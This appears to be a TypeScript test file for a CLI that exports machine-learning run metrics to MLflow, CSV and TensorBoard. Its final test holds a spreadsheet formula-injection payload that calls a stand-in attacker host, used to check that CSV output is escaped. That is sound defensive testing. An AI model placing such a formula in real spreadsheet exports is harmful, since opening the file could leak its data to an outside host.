import assert from 'node:assert/strict'
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { type TestContext, test } from 'node:test'
import { EXIT, runCommand } from '../../../src/cli/command.ts'
import { EXPORT_METRICS } from '../../../src/cli/export-metrics.ts'
import { exportToCsv } from '../../../src/cli/metrics-out/csv.ts'
import { exportToMlflow, mlflowHeaders } from '../../../src/cli/metrics-out/mlflow.ts'
import { flattened, type MetricSource, sourceOfFolder, sourceOfRun } from '../../../src/cli/metrics-out/source.ts'
import { createKappaClient } from '../../../src/client/client.ts'
import { openMlflow } from '../../helpers/mlflow.ts'
import { STEPS, writeRunFolder } from '../../helpers/run-folder.ts'

const AT = Date.UTC(2026, 0, 1)

async function aRun(t: TestContext): Promise<string> {
  const folder = await mkdtemp(join(tmpdir(), 'kappa-metrics-'))
  t.after(() => rm(folder, { recursive: true }))
  await writeRunFolder(join(folder, 'first'))
  return folder
}

async function command(...args: string[]) {
  const said = { out: [] as string[], err: [] as string[] }
  const streams = {
    stdout: { write: (text: string) => void said.out.push(text) },
    stderr: { write: (text: string) => void said.err.push(text) }
  }
  const code = await runCommand('export-metrics', async () => EXPORT_METRICS, { args, streams })
  return { code, out: said.out.join(''), err: said.err.join('') }
}

/** Of a run of 1,200 points: more than MLflow takes at once. */
const made = (count: number): MetricSource => ({
  name: 'made',
  params: { seed: '3' },
  tags: { 'kappa.source': 'folder' },
  startedAt: null,
  endedAt: null,
  async *steps() {
    for (let step = 1; step <= count; step++)
      yield { step, metrics: { loss: 5 - step / 1000, kl: step === 7 ? null : 1 } }
  }
})

test('a run is in MLflow with its recipe, and every point of its curves at its step', async (t) => {
  const mlflow = await openMlflow(t)
  const options = { uri: `${mlflow.uri}/`, experiment: 'of the tests', headers: {}, now: () => AT, send: mlflow.send }
  const folder = await sourceOfFolder(join(await aRun(t), 'first'))
  const run = await exportToMlflow(folder, { ...options, name: 'first' })
  assert.deepEqual([run.points, run.leftOut], [3 * STEPS + 2, 0])
  // The experiment is there now, and more points than a request may have go in several.
  const second = await exportToMlflow(made(600), { ...options, name: 'made' })
  assert.equal(second.experimentId, run.experimentId)
  assert.deepEqual([second.points, second.leftOut], [1199, 1])

  const read = async (path: string) =>
    (await mlflow.send(`${mlflow.uri}/api/2.0/mlflow/${path}`, { method: 'GET' })).json()
  const { run: kept } = (await read(`runs/get?run_id=${run.runId}`)) as Kept
  assert.equal(kept.info.status, 'FINISHED')
  assert.equal(kept.info.run_name, 'first')
  const params = new Map(kept.data.params.map(({ key, value }) => [key, value]))
  assert.equal(params.get('hyperparameters.batch_size'), '8')
  assert.equal(params.get('hyperparameters.teacher_temperature'), '[0.04,0.05,1]')
  const history = (await read(`metrics/get-history?run_id=${run.runId}&metric_key=kappa_p50`)) as History
  assert.deepEqual(
    history.metrics.map(({ step, value }) => [step, value]),
    [
      [50, 31],
      [100, 32]
    ]
  )
  await mlflow.done()
})

interface Kept {
  readonly run: {
    readonly info: { readonly status: string; readonly run_name: string }
    readonly data: { readonly params: readonly { readonly key: string; readonly value: string }[] }
  }
}

interface History {
  readonly metrics: readonly { readonly step: number; readonly value: number }[]
}

test('what breaks on the way leaves a failed run in MLflow, and is told', async () => {
  const asked: string[] = []
  const send = async (url: string, init: RequestInit) => {
    asked.push(
      `${url.split('/mlflow/')[1]} ${typeof init.body === 'string' ? (JSON.parse(init.body).status ?? '') : ''}`
    )
    if (url.includes('get-by-name')) return Response.json({ experiment: { experiment_id: '1' } })
    if (url.includes('log-batch')) return new Response('too much', { status: 429 })
    return Response.json({ run: { info: { run_id: 'r' } } })
  }
  const options = { uri: 'http://mlflow.test', experiment: 'e', headers: {}, name: 'n', now: () => AT, send }
  await assert.rejects(exportToMlflow(made(1), options), /MLflow refused with status 429: too much/)
  assert.equal(asked.at(-1), 'runs/update FAILED')
  const away = () => Promise.reject(new TypeError('fetch failed', { cause: new Error('connect ECONNREFUSED') }))
  await assert.rejects(
    exportToMlflow(made(1), { ...options, send: away }),
    /mlflow\.test cannot be reached: connect ECONN/
  )
})

test('MLflow’s own variables say who asks', () => {
  assert.deepEqual(mlflowHeaders({}), {})
  assert.deepEqual(mlflowHeaders({ MLFLOW_TRACKING_TOKEN: 't' }), { authorization: 'Bearer t' })
  const both = { MLFLOW_TRACKING_USERNAME: 'a', MLFLOW_TRACKING_PASSWORD: 'b' }
  assert.deepEqual(mlflowHeaders(both), { authorization: 'Basic YTpi' })
})

test('a table has a row a step, with nothing where a step lacks a metric', async (t) => {
  const folder = await aRun(t)
  const out = join(folder, 'first.csv')
  assert.equal((await command(join(folder, 'first'), '--to', 'csv', '--out', out)).code, EXIT.done)
  const rows = (await readFile(out, 'utf8')).trimEnd().split('\n')
  assert.equal(rows.length, 1 + STEPS)
  assert.equal(rows[0], 'step,images_per_second,kappa_p50,loss,teacher_entropy')
  assert.equal(rows[1], '1,16,,4.99,2')
  assert.equal(rows[50], '50,16,31,4.5,2')
  assert.match((await command(join(folder, 'first'), '--to', 'csv', '--out', out)).err, /is there already/)
})

test('files for TensorBoard are those that a run writes beside its own', async (t) => {
  const folder = await aRun(t)
  const out = join(folder, 'board')
  const { out: said } = await command(join(folder, 'first'), '--to', 'tensorboard', '--out', out, '--json')
  assert.deepEqual(JSON.parse(said), { type: 'metrics_exported', to: 'tensorboard', steps: STEPS, folder: out })
  const [file] = await readdir(join(out, 'tensorboard'))
  assert.ok((await readFile(join(out, 'tensorboard', file!))).includes('kappa_p50'))
})

test('a run of a server comes in ranges, every point of it', async () => {
  const asked: string[] = []
  const run = {
    ...{
      id: 'run_1',
      name: null,
      dataset: 'ds_1@1',
      model: 'mdl_1',
      resolved_recipe: { seed: 3, hyperparameters: { epochs: 2 } }
    },
    ...{ progress: { step: 5001, total_steps: 5001 }, started_at: '2026-01-01T00:00:00.000Z', finished_at: null }
  }
  const fetch = async ({ url }: Request) => {
    const { pathname, searchParams } = new URL(url)
    if (!pathname.endsWith('/metrics')) return Response.json(run)
    asked.push(`${searchParams.get('from')}-${searchParams.get('to')}/${searchParams.get('max_points')}`)
    const at = searchParams.get('from') === '0' ? [2, 1] : [5001]
    return Response.json({ series: [{ key: 'loss', steps: at, values: at.map((step) => (step === 2 ? null : step)) }] })
  }
  const source = await sourceOfRun(createKappaClient({ baseUrl: 'http://kappa.test', key: 'k', fetch }), 'run_1')
  assert.deepEqual(source.params, { dataset: 'ds_1@1', seed: '3', 'hyperparameters.epochs': '2' })
  assert.deepEqual([source.name, source.startedAt, source.tags['kappa.model']], ['run_1', AT, 'mdl_1'])
  const steps: unknown[] = []
  for await (const one of source.steps()) steps.push(one)
  assert.deepEqual(steps, [
    { step: 1, metrics: { loss: 1 } },
    { step: 2, metrics: { loss: null } },
    { step: 5001, metrics: { loss: 5001 } }
  ])
  assert.deepEqual(asked, ['0-4999/10000', '5000-9999/10000'])
})

test('names of params are dotted, and lists and nulls are JSON', () => {
  assert.deepEqual(flattened({ a: { b: [1, 2], c: null }, d: 'x' }), { 'a.b': '[1,2]', 'a.c': 'null', d: 'x' })
})

test('what cannot be written truthfully is refused with what to do instead', async (t) => {
  const folder = join(await aRun(t), 'first')
  for (const other of ['trackio', 'wandb-offline'])
    assert.match((await command(folder, '--to', other)).err, /docs\/cli\.md has lines that log what --to csv writes/)
  assert.match((await command(folder, '--to', 'excel')).err, /--to must be mlflow, tensorboard or csv, not excel/)
  assert.match(
    (await command(folder, '--to', 'mlflow', '--tracking-uri', 'here')).err,
    /--tracking-uri must be the http/
  )
  const nowhere = await command(join(folder, 'model'), '--to', 'csv', '--out', join(folder, 'x.csv'))
  assert.equal(nowhere.code, EXIT.refused)
  assert.match(nowhere.err, /holds no run/)
})

test('a metric with a name of a server’s making moves no column, and is no formula to a spreadsheet', async (t) => {
  const folder = await aRun(t)
  const odd = ['=HYPERLINK("http://evil.example?"&A1)', 'a,b', '@x', 'c"d', 'e\nf', '-1+1']
  const source: MetricSource = {
    ...made(0),
    async *steps() {
      const values = odd.map((name, i) => [name, i])
      yield { step: 1, metrics: { ...Object.fromEntries(values), loss: '=1+1,9' as unknown as number } }
    }
  }
  await exportToCsv(source, join(folder, 'odd.csv'))
  assert.equal(
    await readFile(join(folder, 'odd.csv'), 'utf8'),
    `step,'-1+1,"'=HYPERLINK(""http://evil.example?""&A1)",'@x,"a,b","c""d","e\nf",loss\n1,5,0,2,1,3,4,\n`
  )
})
